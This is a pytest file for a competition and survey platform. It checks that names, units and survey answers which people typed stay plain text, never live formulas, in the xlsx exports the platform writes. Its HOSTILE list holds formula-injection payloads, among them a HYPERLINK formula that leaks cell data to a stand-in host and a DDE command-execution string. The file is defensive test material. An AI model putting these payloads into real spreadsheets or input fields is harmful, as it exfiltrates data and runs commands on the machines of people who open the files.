"""Text that people typed (names, units, survey answers) never becomes a live formula in an xlsx the platform
writes: the competition results, the survey results and the reports, each opened again with openpyxl."""
from __future__ import annotations

import io
from datetime import datetime, timedelta, timezone

import pytest
from openpyxl import Workbook, load_workbook

import competitions as core
from competitions.surveys.results import Response, aggregate
from competitions.surveys.spec import load_survey
from hub.reports import xlsx
from hub.competitions.admin import results_xlsx
from hub.store.orm import EmploymentForm, Industry, Member, OrgUnit, Region
from hub.reports import ReportScope, Table, write_xlsx as report_xlsx
from hub.surveys.exports import write_xlsx as survey_xlsx

# What a hostile member types as her name, her unit, her survey answer: each is a formula to a spreadsheet.
HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"点我领奖")', "=1+1", "@SUM(A1)", "-2+3", "+3*7",
           "＝1+1", "\t=1+1", "=cmd|' /C calc'!A0"]


def cells_with(wb, texts: list[str]) -> dict[str, list]:
    """Every cell of every sheet whose text contains one of ``texts``, by that text."""
    found: dict[str, list] = {t: [] for t in texts}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                for t in texts:
                    if isinstance(cell.value, str) and t in cell.value:
                        found[t].append(cell)
    return found


def assert_text_not_formula(data: bytes, exact: list[str]) -> None:
    wb = load_workbook(io.BytesIO(data))
    found = cells_with(wb, exact)
    for text in exact:
        cells = [c for c in found[text] if c.value == text]
        assert cells, f"{text!r} is not in the workbook as a cell of its own"
        for c in cells:
            assert c.data_type == "s", f"{text!r} at {c.coordinate} is a {c.data_type!r} cell, not a string"
    for ws in wb.worksheets:  # and nothing anywhere is a formula
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"formula at {ws.title}!{c.coordinate}: {c.value!r}"


def test_competition_results_keep_hostile_names_as_text():
    now = datetime(2026, 5, 1, 9, tzinfo=timezone.utc)
    spec = core.load_competition(f"""slug: formula-cup
title: 公式测试赛
phases:
  - key: prelim
    title: 初赛
    opens_at: {(now - timedelta(days=2)).isoformat()}
    closes_at: {(now - timedelta(days=1)).isoformat()}
    tasks: [{{assignment: t1, title: 求和, max_score: 10}}]
divisions:
  - {{key: region, title: 地区分榜, split_by: region}}
""")
    members, records, core_members = {}, [], {}
    for i, name in enumerate(HOSTILE, 1):
        unit = OrgUnit(code=f"u{i}", name=f"-{i}工会" if i % 2 else name)
        members[i] = Member(id=i, username=f"worker{i:02d}", real_name=name, org_unit=unit,
                            region=Region(code="zhejiang", name="浙江省"), industry=Industry(code="it", name="=IT"),
                            employment_form=EmploymentForm(code="full_time", name="全日制用工"))
        core_members[i] = core.Member(id=i, real_name=name, units=(f"u{i}",), unit_name=unit.name,
                                      region="zhejiang", industry="it", employment_form="full_time")
        records.append(core.ScoreRecord(i, "t1", "prelim", float(i), float(i), now - timedelta(days=1, hours=i)))
    lb = core.Leaderboard(spec, "prelim", kind="private", members=core_members, records=records)
    data = results_xlsx(lb, spec, members, "=公式测试赛 · 初赛", {"region": {"zhejiang": "浙江省"}})
    assert_text_not_formula(data, HOSTILE + ["=IT"])
    wb = load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["总榜", "地区分榜·浙江省"]  # the region's name, not its code (issue 16)
    assert wb["总榜"]["A1"].value.startswith("=公式测试赛") and wb["总榜"]["A1"].data_type == "s"


def test_survey_results_keep_hostile_answers_and_options_as_text():
    spec = load_survey("""slug: formula-survey
title: 公式问卷
questions:
  - {id: shift, kind: single, text: "=班次", options: ["=白班", "-夜班", "@轮班"]}
  - {id: advice, kind: text, text: 建议, required: false}
""")
    rows = [Response({"shift": ["=白班", "-夜班", "@轮班"][i % 3], "advice": HOSTILE[i % len(HOSTILE)]},
                     {"region": "浙江省"}) for i in range(30)]
    data = survey_xlsx(spec, aggregate(spec, rows, k=2), datetime(2027, 3, 1, tzinfo=timezone.utc))
    assert_text_not_formula(data, HOSTILE + ["=白班", "-夜班", "@轮班"])


def test_reports_keep_hostile_unit_names_as_text(tmp_path):
    table = Table("=按单位 by unit", "by unit", ["基层工会 unit", "报名 registered"],
                  [[name, 3] for name in HOSTILE] + [["合计 total", 3 * len(HOSTILE)]], notes=["-说明"])
    path = tmp_path / "report.xlsx"
    report_xlsx([table], path, ReportScope())
    assert_text_not_formula(path.read_bytes(), HOSTILE)
    wb = load_workbook(path)
    assert wb.sheetnames == ["=按单位 by unit"]


@pytest.mark.parametrize("text", ["bad\x07bell", "nul\x00here"])
def test_control_characters_do_not_break_an_export(text):
    """openpyxl refuses control characters outright (the whole export would fail); they become U+FFFD."""
    wb = Workbook()
    xlsx.append(wb.active, [text])
    out = io.BytesIO()
    wb.save(out)
    assert load_workbook(out).active["A1"].value == "".join("\ufffd" if c < " " else c for c in text)


def test_sheet_titles_are_legal_and_unique():
    wb = Workbook()
    wb.remove(wb.active)
    long = "地区分榜·" + "新就业形态·网约配送员（外卖骑手）" * 3
    first = wb.create_sheet(xlsx.sheet_title(wb, long))
    second = wb.create_sheet(xlsx.sheet_title(wb, long))
    odd = wb.create_sheet(xlsx.sheet_title(wb, "a[b]:c*d?e/f\\g"))
    assert len(first.title) <= 31 and len(second.title) <= 31 and first.title != second.title
    assert second.title.endswith("·2") and odd.title == "abcdefg"
